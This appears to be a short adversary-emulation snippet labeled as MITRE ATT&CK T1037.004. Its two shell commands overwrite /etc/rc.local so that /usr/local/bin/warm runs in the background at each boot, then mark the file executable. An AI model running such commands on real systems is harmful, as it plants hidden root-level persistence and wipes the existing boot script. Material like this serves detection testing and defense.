# technique: T1037.004
# location: linux.rc-local
# source: /etc/rc.local
printf '#!/bin/sh -e\n/usr/local/bin/warm &\nexit 0\n' > /etc/rc.local
chmod 755 /etc/rc.local
